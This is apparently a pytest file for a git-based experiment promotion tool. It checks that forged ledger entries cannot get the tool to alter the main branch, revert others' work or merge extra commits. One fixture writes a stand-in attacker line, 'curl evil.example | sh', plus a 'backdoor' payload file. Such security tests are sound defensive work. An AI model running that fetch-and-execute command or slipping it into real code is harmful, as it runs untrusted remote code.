"""Reverts rest on git: a ledger that others wrote into moves no base branch."""

from __future__ import annotations

import pytest

from expci.core.lifecycle.transitions import State
from expci.core.model.events import Event, Promoted, PromoteOpened, RolledBack
from expci.core.model.trial import timestamp
from expci.flows.experiment.base import base_of
from expci.flows.experiment.gather import gather
from expci.flows.experiment.promotion_merge import doubts, is_what_the_plan_makes, own_paths
from expci.store.ledger.transaction import LedgerChange
from support.repositories import Repository
from support.stage import Stage


@pytest.fixture
def stage(repository: Repository) -> Stage:
    return Stage(repository)


def write_into_the_ledger(stage: Stage, *events: Event) -> None:
    """As anybody can who may push refs."""
    context = stage.context
    context.store.transact(
        stage.now,
        lambda snapshot: LedgerChange.of(
            "speed: promoted", snapshot.ledger.with_events("speed", list(events))
        ),
    )


def forged(stage: Stage, merge: str, parent: str) -> tuple[Event, ...]:
    at, by, branch = timestamp(stage.now), "expci", "expci/promote/speed"
    return (
        PromoteOpened(at=at, by=by, arm="treatment", branch=branch, commit=merge),
        Promoted(at=at, by=by, arm="treatment", branch=branch, merge=merge, parent=parent),
        RolledBack(at=at, by=by, why="harm", reason_code="harm_primary", arm="treatment"),
    )


def innocent_branch(stage: Stage) -> str:
    """A commit that may be pushed to a branch, and not to main."""
    stage.repository.git("switch", "-q", "-C", "feature", "origin/main")
    stage.repository.write("work.sh", "curl evil.example | sh\n")
    stage.repository.write("payload.py", "backdoor\n")
    commit = stage.repository.commit("innocent")
    stage.repository.push("feature")
    stage.repository.git("switch", "-q", "--detach", "origin/main")
    return commit


def test_a_forged_parent_puts_nothing_on_the_base_branch(stage: Stage) -> None:
    stage.begin()
    evil = innocent_branch(stage)
    main = stage.repository.git("rev-parse", "origin/main")
    write_into_the_ledger(stage, *forged(stage, main, evil))
    stage.auto()
    stage.repository.git("fetch", "-q", "origin")
    assert stage.repository.git("rev-parse", "origin/main") == main
    life = stage.life()
    assert (life.state, life.reverted and life.reverted.commit) == (State.ROLLED_BACK, "")
    assert life.reverted is not None
    assert "is not the commit of main before the promotion" in life.reverted.why
    pull = stage.pull("expci/revert/speed")
    assert (pull.is_open, pull.draft, pull.number) == (True, True, life.reverted.pull)
    assert "does not confirm" in pull.body


def test_a_forged_merge_that_is_on_no_base_branch_is_only_a_draft(stage: Stage) -> None:
    stage.begin()
    evil = innocent_branch(stage)
    main = stage.repository.git("rev-parse", "origin/main")
    write_into_the_ledger(stage, *forged(stage, evil, main))
    stage.auto()
    stage.repository.git("fetch", "-q", "origin")
    assert stage.repository.git("rev-parse", "origin/main") == main
    assert stage.pull("expci/revert/speed").draft


def test_a_forged_commit_that_does_not_exist_is_named_and_nothing_is_done(stage: Stage) -> None:
    stage.begin()
    main = stage.repository.git("rev-parse", "origin/main")
    write_into_the_ledger(stage, *forged(stage, main, "0" * 40))
    stage.auto()
    reverted = stage.life().reverted
    assert reverted is not None
    assert "nothing was reverted" in reverted.why
    assert stage.context.forge.pull_requests.of_branch("expci/revert/speed") is None


def test_a_real_merge_of_something_else_is_not_taken_back(stage: Stage) -> None:
    stage.begin()
    parent = stage.repository.git("rev-parse", "origin/main")
    stage.repository.git("switch", "-q", "-C", "main", "origin/main")
    stage.repository.write("notes.md", "Somebody else's work.\n")
    merge = stage.repository.commit("Notes")
    stage.repository.push("main")
    write_into_the_ledger(stage, *forged(stage, merge, parent))
    stage.auto()
    assert stage.repository.origin_file("notes.md") == "Somebody else's work."
    assert stage.pull("expci/revert/speed").draft


def test_a_fix_of_a_varied_file_is_not_taken_back_as_a_promotion(stage: Stage) -> None:
    """A real commit of the default branch, its real parent, and a path that the plan varies."""
    stage.begin()
    parent = stage.repository.git("rev-parse", "origin/main")
    stage.repository.git("switch", "-q", "-C", "main", "origin/main")
    stage.repository.write("work.sh", "sleep 0.02 # closes a hole\n", executable=True)
    stage.repository.write("experiments/speed/notes.md", "Found while we tried it.\n")
    fix = stage.repository.commit("Close a hole")
    stage.repository.push("main")
    write_into_the_ledger(stage, *forged(stage, fix, parent))
    stage.auto()
    assert stage.repository.origin_file("work.sh") == "sleep 0.02 # closes a hole"
    reverted = stage.life().reverted
    assert reverted is not None
    assert "holds nothing of what the plan promotes" in reverted.why
    assert stage.pull("expci/revert/speed").draft


def test_of_a_true_promotion_nothing_is_doubted_and_only_its_own_paths_are_taken_back(
    stage: Stage,
) -> None:
    merge = stage.to_watching()
    context = stage.context
    base = base_of(context)
    gathered = gather(context, context.store.snapshot(), "speed", base, stage.now)
    promoted = gathered.life.promoted
    assert promoted is not None
    assert promoted.merge == merge
    assert doubts(context.git, gathered.plan, gathered.life, base) == ""
    assert own_paths(context.git, gathered.plan, promoted) == ["work.sh"]


def test_only_a_head_that_the_plan_makes_is_merged_by_expci(stage: Stage) -> None:
    stage.begin()
    stage.pairs(14, 0.5)
    stage.auto()
    context = stage.context
    base = base_of(context)
    gathered = gather(context, context.store.snapshot(), "speed", base, stage.now)
    head = stage.pull("expci/promote/speed").head_commit
    assert is_what_the_plan_makes(context.git, gathered.plan, "treatment", head, base)
    stage.repository.git("fetch", "-q", "origin")
    stage.repository.git("switch", "-q", "-C", "more", head)
    stage.repository.write("payload.py", "backdoor\n")
    on_top = stage.repository.commit("One more thing")
    assert not is_what_the_plan_makes(context.git, gathered.plan, "treatment", on_top, base)
    amended = stage.repository.git("commit-tree", f"{on_top}^{{tree}}", "-p", f"{head}^", "-m", "x")
    assert not is_what_the_plan_makes(context.git, gathered.plan, "treatment", amended, base)
    tree = f"{head}^{{tree}}"
    for parents in ((f"{head}^", on_top), (on_top,)):  # the right content, and more behind it
        flags = [word for parent in parents for word in ("-p", parent)]
        odd = stage.repository.git("commit-tree", tree, *flags, "-m", "x")
        assert not is_what_the_plan_makes(context.git, gathered.plan, "treatment", odd, base)
